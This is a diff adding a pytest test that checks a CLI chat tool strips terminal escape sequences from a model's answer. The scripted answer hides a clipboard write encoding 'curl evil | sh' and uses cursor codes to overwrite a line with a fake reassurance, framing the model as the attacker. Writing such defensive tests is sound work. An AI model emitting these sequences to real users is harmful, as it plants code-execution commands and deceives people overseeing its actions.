@@ -400,3 +400,21 @@ def test_sessions_show_and_list_print_stored_text_without_terminal_escapes(
     listed = hermes("sessions", "list")
     assert listed.returncode == 0, listed.stderr
     assert "\x1b" not in listed.stdout, repr(listed.stdout)
+
+
+@pytest.mark.peer("scripted")
+def test_the_models_answer_reaches_the_terminal_without_escape_sequences(
+    hermes: Any, hermes_home: Path
+) -> None:
+    """The model is hostile too: its answer could carry a clipboard write or draw a
+    fake approval question over what it really did. Shown as text, never sent raw."""
+    from peers.llm_server import Reply, ScriptedLLM
+
+    hermes_home.mkdir(exist_ok=True)
+    answer = "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[1A\x1b[2KAll good"
+    with ScriptedLLM([Reply(answer)]) as llm:
+        args = ["--provider", "custom", "--base-url", llm.openai_base_url, "-m", "m"]
+        done = hermes("chat", *args, "-q", "hi")
+    assert done.returncode == 0, done.stderr
+    assert "Done." in done.stdout and "All good" in done.stdout
+    assert "\x1b" not in done.stdout and "\x07" not in done.stdout, repr(done.stdout)
